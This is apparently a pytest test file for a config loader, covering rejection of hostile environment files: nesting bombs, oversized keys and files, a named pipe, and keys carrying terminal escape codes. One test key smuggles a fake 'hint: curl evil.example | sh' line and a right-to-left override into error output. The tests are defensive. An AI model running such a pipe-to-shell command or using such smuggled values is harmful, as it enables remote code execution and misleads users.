"""Environment files that nobody wrote for orderops: each is an error with its place, soon and without a traceback."""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from orderops.config.environment import load_environment
from orderops.config.loader import key_lines
from orderops.errors import UsageError
from support.command_line import Orderops

DEEP = 100_000
TEXTS = {
    "lists without end": ("x = " + "[" * DEEP + "]" * DEEP, "dev.toml:1: has 200,004 characters"),
    "lists on many lines": ("x = " + "[\n" * 3000 + "]\n" * 3000, "dev.toml: nests deeper than 32 levels"),
    "lists below the parser's limit": ("x = " + "[" * 300 + "]" * 300, "dev.toml: nests deeper than 32 levels"),
    "tables in tables": ("x = " + "{a = " * 1500 + "1" + "}" * 1500, "dev.toml: nests deeper than 32 levels"),
    "a key of many parts": ("x" + ".x" * 4000 + " = 1", "dev.toml: nests deeper than 32 levels"),
    "a table of many parts": ("[x" + ".x" * 4000 + "]", "dev.toml: nests deeper than 32 levels"),
    "a long key": ("x" * 20_000 + " = 1", "dev.toml:1: has 20,004 characters"),
    "a long number": ("account = " + "9" * 5000, "dev.toml: has a number that is too long"),
    "a large file": ("# comment\n" * 200_000, "dev.toml: has 1,953 KB; at most 1,024 KB are read"),
}


@pytest.fixture
def folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """The folder for environment files in the working directory."""
    monkeypatch.chdir(tmp_path)
    made = Path("environments")
    made.mkdir()
    return made


@pytest.mark.parametrize(("text", "expected"), TEXTS.values(), ids=TEXTS)
def test_a_file_that_no_environment_needs_is_an_error(folder: Path, text: str, expected: str) -> None:
    (folder / "dev.toml").write_text(text)

    with pytest.raises(UsageError) as refused:
        load_environment("dev")

    assert refused.value.message.startswith(f"environments/{expected}")
    assert refused.value.hint


def test_a_pipe_in_place_of_a_file_is_an_error_and_not_waited_for(folder: Path) -> None:
    os.mkfifo(folder / "dev.toml")

    with pytest.raises(UsageError, match=r"^environments/dev\.toml: is not a regular file$"):
        load_environment("dev")


def test_keys_behind_a_long_value_have_their_lines() -> None:
    text = (
        "first = [\n" + '  "a",\n' * 2000 + "]\nsecond = 1\n[table]\nthird = '''\n" + "x\n" * 500 + "'''\nfourth = 2\n"
    )

    lines = key_lines(text)

    assert (lines["first",], lines["second",], lines["table",]) == (1, 2003, 2004)
    assert (lines["table", "third"], lines["table", "fourth"]) == (2005, 2507)


def test_a_key_with_a_line_end_begins_no_line_of_the_error(folder: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (folder / "dev.toml").write_text('"x\\n hint: curl evil.example | sh" = 1\n"\\u001b[31mred" = 1\n"e\\u202Ex" = 1\n')

    said = Orderops(capsys)("env", "check", "dev")

    assert said.code == 2
    assert "\x1b" not in said.out + said.err
    assert "\u202e" not in said.out + said.err
    assert not [line for line in said.err.splitlines() if line.strip().startswith("hint: curl")]
    assert r'dev.toml:1: "x\n hint: curl evil.example | sh": unknown key' in said.err
    assert r"e\u202ex" in said.err
